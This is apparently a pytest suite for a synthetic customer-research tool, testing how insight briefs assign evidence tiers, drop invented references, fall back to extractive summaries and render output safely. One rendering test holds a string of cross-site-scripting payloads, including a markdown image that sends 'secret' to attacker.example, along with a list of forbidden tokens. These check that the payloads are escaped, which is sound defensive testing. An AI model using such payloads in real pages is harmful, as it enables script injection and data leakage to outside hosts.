"""Insight briefs: deterministic tiers, quotes, weights, fallback, safe renderings."""

from __future__ import annotations

import json
import re
from collections.abc import Mapping
from pathlib import Path

import pytest

from persona.errors import PersonaError
from persona.insights import (
    InsightBrief,
    compile_brief,
    export_insights,
    get_brief,
    list_briefs,
    render_html,
    render_json,
    render_markdown,
)
from persona.interview import Turn, ask, start_interview
from persona.llm import ScriptedChatModel
from persona.services import Services


def interview(services: Services, persona_id: int, exchanges: list[tuple[str, str]]) -> list[Turn]:
    services.use_model(ScriptedChatModel(replies=[answer for _q, answer in exchanges]))
    interview_id = start_interview(services, persona_id)
    return [ask(services, interview_id, question) for question, _a in exchanges]


def item(text: str, *turns: Turn) -> dict[str, object]:
    return {"text": text, "refs": [f"T{t.id}" for t in turns]}


@pytest.fixture
def answers(services: Services, maya_id: int, greta_id: int) -> dict[str, Turn]:
    compare, refunds, claim = interview(
        services,
        maya_id,
        [
            ("What matters when you buy?", "I compare prices and wait for discounts."),
            ("What annoys you?", "Refunds for returned jackets take weeks. It is slow."),
            ("How do you feel about price?", "Honestly, price doesn't matter to me."),
        ],
    )
    [colours] = interview(
        services,
        greta_id,
        [("What do you look for?", "I love the brand colours and sustainable materials.")],
    )
    return {"compare": compare, "refunds": refunds, "claim": claim, "colours": colours}


def brief_with(services: Services, draft: Mapping[str, object], **kwargs: object) -> InsightBrief:
    model = ScriptedChatModel(replies=[json.dumps(draft)])
    services.use_model(model)
    return compile_brief(services, **kwargs)  # type: ignore[arg-type]


@pytest.mark.slow  # MiniLM: the support check needs an embedding that knows meaning
def test_tiers_are_decided_from_the_evidence_not_by_the_model(
    services: Services, answers: dict[str, Turn]
) -> None:
    services = Services(services.settings.with_(embeddings="local"))
    draft = {
        "key_findings": [
            item("Shoppers compare prices and wait for discounts", answers["compare"]),
            # The example: a price-sensitive segment does not make this data-backed.
            item(
                "The company's mission to make money is not just about making a profit",
                answers["compare"],
            ),
        ],
        "pain_points": [item("Refunds for returned jackets take weeks", answers["refunds"])],
        "needs": [item("They love the brand colours", answers["colours"])],
        "preferences": [item("Price matters less than they say", answers["claim"])],
        "recommendations": [
            item(
                "Offer sustainable materials and price deals",
                answers["compare"],
                answers["colours"],
            )
        ],
    }
    brief = brief_with(services, draft)
    finding, pain, need, preference, recommendation = (
        brief.key_findings[0], brief.pain_points[0], brief.needs[0], brief.preferences[0],
        brief.recommendations[0],
    )  # fmt: skip
    assert finding.tier == "data-backed"
    assert any("price_sensitivity_vs_base_pct = 27.2" in b for b in finding.basis)
    assert brief.key_findings[1].tier == "simulated-only"
    assert pain.tier == "document-backed" and any("faq.txt" in b for b in pain.basis)
    assert need.tier == "simulated-only"
    assert preference.tier == "simulated-only", "a flagged, contradicting answer backs nothing"
    assert preference.quotes[0].flagged
    assert recommendation.tier == "data-backed"
    assert recommendation.weight == pytest.approx(0.40)
    assert finding.weight == pytest.approx(0.24)
    assert recommendation.turn_ids == [answers["compare"].id, answers["colours"].id]
    assert pain.quotes[0].text == "Refunds for returned jackets take weeks."
    assert [p.name for p in brief.personas] == ["Maya Lindqvist", "Greta Novak"]
    assert brief.synthetic and "Synthetic research" in brief.label
    assert brief.method == "model"
    assert brief.hypotheses[0].startswith(
        ("They love the brand colours", "Price matters less", "The company's mission")
    )
    assert any("flagged by the consistency guard" in n for n in brief.notes)


def test_unknown_answer_ids_are_sent_back_then_dropped(
    services: Services, answers: dict[str, Turn]
) -> None:
    bad = {"key_findings": [item("They compare prices", answers["compare"])]}
    bad["key_findings"].append({"text": "Invented finding", "refs": ["T9999"]})  # type: ignore[attr-defined]
    good = {"key_findings": [item("They compare prices", answers["compare"])]}
    model = ScriptedChatModel(replies=[json.dumps(bad), json.dumps(good)])
    services.use_model(model)
    brief = compile_brief(services)
    assert len(model.calls) == 2
    assert "unknown answer ids" in str(model.calls[1][-1].content)
    assert [i.text for i in brief.key_findings] == ["They compare prices"]

    services.use_model(ScriptedChatModel(replies=[json.dumps(bad)]))
    services = Services(services.settings.with_(structured_retries=0))
    services.use_model(ScriptedChatModel(replies=[json.dumps(bad)]))
    repaired = compile_brief(services)
    assert [i.text for i in repaired.key_findings] == ["They compare prices"]
    assert any("dropped" in n for n in repaired.notes)


def test_an_unusable_synthesis_gives_an_extractive_brief(
    services: Services, answers: dict[str, Turn]
) -> None:
    services = Services(services.settings.with_(structured_retries=1))
    services.use_model(ScriptedChatModel(replies=["not json", "still not json"]))
    brief = compile_brief(services)
    assert brief.method == "extractive" and brief.recommendations == []
    texts = [i.text for i in brief.items()]
    assert "Maya Lindqvist: Refunds for returned jackets take weeks." in texts
    assert all("price doesn't matter" not in t for t in texts), "flagged answers are left out"
    assert any("did not validate" in n for n in brief.notes)


def test_selection_by_interview_and_nothing_to_synthesise(
    services: Services, answers: dict[str, Turn]
) -> None:
    greta_only = answers["colours"].interview_id
    brief = brief_with(
        services, {"key_findings": [item("They like colours", answers["colours"])]},
        interview_ids=[greta_only],
    )  # fmt: skip
    assert brief.interview_ids == [greta_only] and brief.panel_ids == []
    with pytest.raises(PersonaError, match="no answers"):
        compile_brief(services, interview_ids=[], panel_ids=[])


def test_panel_answers_can_be_linked(services: Services, maya_id: int, greta_id: int) -> None:
    from persona.panel import ask_panel

    services.use_model(ScriptedChatModel(replies=["Too expensive for me.", "Worth it."]))
    panel = ask_panel(services, "What about a premium range?")
    draft = {
        "key_findings": [
            {
                "text": "Price-sensitive customers find premium too expensive",
                "refs": [f"P{panel.id}.{maya_id}"],
            }
        ]
    }
    brief = brief_with(services, draft, panel_ids=[panel.id])
    [finding] = brief.key_findings
    assert finding.tier == "data-backed" and finding.quotes[0].panel_id == panel.id


def test_document_context_of_an_answer_makes_an_item_document_backed(
    services: Services, greta_id: int, tmp_path: Path
) -> None:
    from persona.knowledge import add_documents

    doc = tmp_path / "refunds.txt"
    doc.write_text(
        "Refund policy: refunds for returned tents reach your account within fourteen days.",
        encoding="utf-8",
    )
    add_documents(services.store, services.settings, [doc])
    [turn] = interview(services, greta_id, [("How do refunds work?", "They take a while.")])
    assert [s.file for s in turn.sources] == ["refunds.txt"]
    draft = {"pain_points": [item("Refunds for returned tents reach the account slowly", turn)]}
    draft["key_findings"] = [item("Refunds feel slow", turn)]
    brief = brief_with(services, draft)
    [pain] = brief.pain_points
    assert pain.tier == "document-backed"
    assert any("refunds.txt" in b for b in pain.basis)


HOSTILE = (
    "<script>alert(1)</script> ![x](http://attacker.example/?q=secret) "
    "[click](javascript:alert(1)) <img src=x onerror=alert(1)>"
)


def test_renderings_are_labelled_escaped_and_load_nothing(services: Services, maya_id: int) -> None:
    [turn] = interview(services, maya_id, [("Anything else?", HOSTILE)])
    brief = brief_with(
        services, {"key_findings": [{"text": "An odd answer", "refs": [f"T{turn.id}"]}]}
    )
    page = render_html(brief)
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    for forbidden in ("<script", "<img", "onerror=", "src=", "href=", "attacker.example",
                      "javascript:", "<b>"):  # fmt: skip
        assert forbidden not in page, forbidden
    assert "Synthetic research" in page
    markdown = render_markdown(brief)
    # Escaped characters (\<, \!, \]) render literally; only unescaped ones are a risk.
    for forbidden in (r"!\[", r"\]\(", r"<script", r"<img"):
        assert not re.search(r"(?<!\\)" + forbidden, markdown), forbidden
    assert "attacker.example" not in markdown and "javascript:" not in markdown
    assert "Synthetic research" in markdown and "Hypotheses to validate" in markdown
    assert InsightBrief.model_validate_json(render_json(brief)) == brief


def test_briefs_are_stored_and_exported(services: Services, answers: dict[str, Turn]) -> None:
    brief = brief_with(
        services, {"key_findings": [item("They compare prices", answers["compare"])]},
        title="Pricing study",
    )  # fmt: skip
    assert brief.id is not None
    assert get_brief(services, brief.id) == brief
    assert [(b.id, b.title) for b in list_briefs(services)] == [(brief.id, "Pricing study")]
    for fmt in ("md", "html", "json"):
        path = export_insights(services, brief.id, fmt)  # type: ignore[arg-type]
        assert path.name == f"insights-{brief.id}.{fmt}" and path.stat().st_size > 200


def test_the_same_evidence_gives_the_same_tiers(
    services: Services, answers: dict[str, Turn]
) -> None:
    draft = {"key_findings": [item("Shoppers compare prices", answers["compare"])]}
    first, second = brief_with(services, draft), brief_with(services, draft)
    assert [(i.tier, i.basis) for i in first.items()] == [(i.tier, i.basis) for i in second.items()]
